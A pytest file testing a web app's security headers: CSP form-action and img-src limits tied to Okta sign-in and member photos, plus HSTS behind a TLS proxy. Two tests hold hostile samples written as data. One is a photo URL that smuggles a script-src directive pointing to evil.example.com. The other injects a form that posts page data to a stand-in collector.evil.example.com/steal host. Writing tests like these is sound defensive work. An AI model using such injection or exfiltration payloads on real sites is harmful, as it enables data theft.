"""Security headers: a form posts only to us (plus the Okta origin a sign-in or sign-out
redirect goes to), images come only from us (plus the origins of the member photos on
that page), and HSTS is sent whenever the public URL is https, also behind a proxy that
terminates TLS."""

import shutil
from datetime import datetime

import pytest

from tests.conftest import app_config, csrf_token
from wizard import create_app
from wizard.models import EmailDomain, Member, OktaConnection, SsoConfiguration, SsoState
from wizard.security_headers import OKTA_DOMAINS

OKTA_ISSUER = "https://acme.okta.com/oauth2/default"
CUSTOM_ISSUER = "https://login.acme.example.com/oauth2/default"


def directives(response) -> dict[str, list[str]]:
    policy = response.headers["Content-Security-Policy"]
    parsed = {}
    for directive in policy.split(";"):
        name, *sources = directive.split()
        assert name not in parsed, f"{name} twice in {policy}"
        parsed[name] = sources
    return parsed


def production_like(app) -> None:
    """Development adds loopback (local OpenID providers); these tests look past it."""
    app.config["APP_ENV"] = "production"


def sso_for_acme(org, issuer: str) -> OktaConnection:
    """Acme signs in with Okta at ``issuer``, for its verified domain acme.example.com."""
    connection, _ = OktaConnection.get_or_create(organization=org, defaults={"scim_key": "k1"})
    SsoConfiguration.create(
        connection=connection,
        state=SsoState.LIVE,
        issuer=issuer,
        client_id="0oa-client",
        activated_at=datetime.utcnow(),
        tested_at=datetime.utcnow(),
    )
    EmailDomain.get_or_create(
        organization=org,
        domain="acme.example.com",
        defaults={"status": "verified", "token": "t", "verified_at": datetime.utcnow()},
    )
    return OktaConnection.get_by_id(connection.id)


def test_forms_post_only_to_us(app, client, auth, admin):
    """Today ``form-action 'self' https:`` let an injected form post anywhere."""
    production_like(app)
    auth.login()
    for path in ("/account", "/org/", "/integrations"):
        policy = directives(client.get(path))
        assert policy["form-action"] == ["'self'"], path


def test_the_sign_in_page_allows_okta_for_the_redirect(app, client, db):
    """The email-first form posts to us and we redirect to the organization's Okta; a
    browser checks that redirect against form-action too (tested in Chromium below)."""
    production_like(app)
    policy = directives(client.get("/login"))
    assert policy["form-action"] == ["'self'", *OKTA_DOMAINS]
    assert all(source.startswith("https://*.") for source in OKTA_DOMAINS)


def test_sign_out_allows_the_members_own_okta_only(app, client, auth, admin, org, db):
    production_like(app)
    sso_for_acme(org, CUSTOM_ISSUER)
    auth.login()
    policy = directives(client.get("/account"))
    assert policy["form-action"] == ["'self'", "https://login.acme.example.com"]


def test_the_sso_step_allows_the_redirect_of_its_test_sign_in(app, client, auth, admin, org):
    """The wizard's Test sign-in is a form (a CSRF-protected POST) whose answer redirects
    to the provider under test, a pending one included: that origin, and only on this
    page."""
    production_like(app)
    connection = sso_for_acme(org, OKTA_ISSUER)
    SsoConfiguration.create(
        connection=connection, state=SsoState.PENDING, issuer=CUSTOM_ISSUER, client_id="0oa-2"
    )
    auth.login()
    policy = directives(client.get("/connect/okta/sso"))
    assert policy["form-action"] == [
        "'self'",
        "https://acme.okta.com",
        "https://login.acme.example.com",
    ]
    assert directives(client.get("/account"))["form-action"] == ["'self'", "https://acme.okta.com"]


def sign_in_with_okta(app, client, org, issuer: str):
    """The email-first form, for Acme on Okta at ``issuer``."""
    production_like(app)
    sso_for_acme(org, issuer)
    page = client.get("/login")
    return client.post(
        "/login", data={"email": "jane@acme.example.com", "csrf_token": csrf_token(page.text)}
    )


def test_a_custom_okta_domain_is_reached_without_a_form_redirect(app, client, org, db):
    """A custom domain is not on the sign-in page's list: the POST answers with a page
    that continues to our Okta start URL (a navigation form-action does not govern)."""
    response = sign_in_with_okta(app, client, org, CUSTOM_ISSUER)
    assert response.status_code == 200
    start = "/login/okta/acme?login_hint=jane@acme.example.com"
    assert f'content="0; url={start}"' in response.text
    assert f'href="{start}"' in response.text


def test_okta_hosted_sign_in_redirects_at_once(app, client, org, db):
    response = sign_in_with_okta(app, client, org, OKTA_ISSUER)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login/okta/acme?login_hint=jane")


def add_photo(org, email: str, photo_url: str) -> Member:
    return Member.create(
        organization=org,
        email=email,
        email_key=email,
        user_name=email,
        user_name_key=email,
        given_name="Pat",
        family_name="Doe",
        photo_url=photo_url,
        role="User",  # the staff directory lists members with role User or higher
    )


def test_images_come_from_us_and_the_photos_on_the_page(app, client, auth, admin, org):
    """Today ``img-src 'self' https: data:``; now only the photo origins the page shows."""
    production_like(app)
    add_photo(org, "p1@acme.example.com", "https://photos.acme.example.com/p1.jpg")
    add_photo(org, "p2@acme.example.com", "https://cdn.hr.example.com:8443/p2.png")
    auth.login()
    assert directives(client.get("/account"))["img-src"] == ["'self'"]
    page = client.get("/team/directory")
    assert "photos.acme.example.com/p1.jpg" in page.text
    assert sorted(directives(page)["img-src"]) == [
        "'self'",
        "https://cdn.hr.example.com:8443",
        "https://photos.acme.example.com",
    ]


def test_a_hostile_photo_url_cannot_write_the_policy(app, client, auth, admin, org):
    """A photo URL comes from an Okta profile: one that would add a directive, or that
    carries credentials, is left out of the page and of the policy."""
    production_like(app)
    hostile = "https://x.example.com;script-src https://evil.example.com/p.jpg"
    add_photo(org, "p3@acme.example.com", hostile)
    add_photo(org, "p4@acme.example.com", "https://user:pw@photos.acme.example.com/p.jpg")
    auth.login()
    page = client.get("/team/directory")
    policy = directives(page)
    assert policy["script-src"] == ["'self'"] and "evil.example.com" not in page.text
    assert policy["img-src"] == ["'self'"] and "user:pw@" not in page.text


@pytest.fixture
def https_app(tmp_path, migrated_sqlite_template):
    path = tmp_path / "https.db"
    shutil.copy(migrated_sqlite_template, path)
    return create_app(
        app_config(tmp_path, f"sqlite:///{path}", PUBLIC_BASE_URL="https://connector.example.com")
    )


def test_hsts_whenever_the_public_url_is_https(https_app):
    """Behind a proxy that terminates TLS the request reaches us over http (and without
    TRUSTED_PROXIES the app cannot tell): today no HSTS was sent then."""
    behind_proxy = "http://connector.example.com"
    response = https_app.test_client().get("/login", base_url=behind_proxy)
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    scim = https_app.test_client().get("/scim/v2/nokey/Users", base_url=behind_proxy)
    assert "Strict-Transport-Security" in scim.headers


def test_no_hsts_for_a_plain_http_development_url(client):
    assert "Strict-Transport-Security" not in client.get("/login").headers


@pytest.mark.browser
def test_chromium_refuses_an_injected_form_to_another_site(page, app, live_server, admin):
    """The attack the header stops: markup injected into one of our pages that posts the
    page's data elsewhere. Chromium refuses it and reports the violation."""
    production_like(app)
    page.goto(f"{live_server.url}/login")
    page.get_by_label("Work email").fill(admin.email)
    page.evaluate(
        """() => {
            window.violations = [];
            document.addEventListener('securitypolicyviolation',
                (e) => window.violations.push(e.effectiveDirective));
            const form = document.createElement('form');
            form.method = 'post';
            form.action = 'https://collector.evil.example.com/steal';
            document.body.appendChild(form);
            form.submit();
        }"""
    )
    page.wait_for_function("() => window.violations && window.violations.length > 0")
    assert page.evaluate("() => window.violations") == ["form-action"]
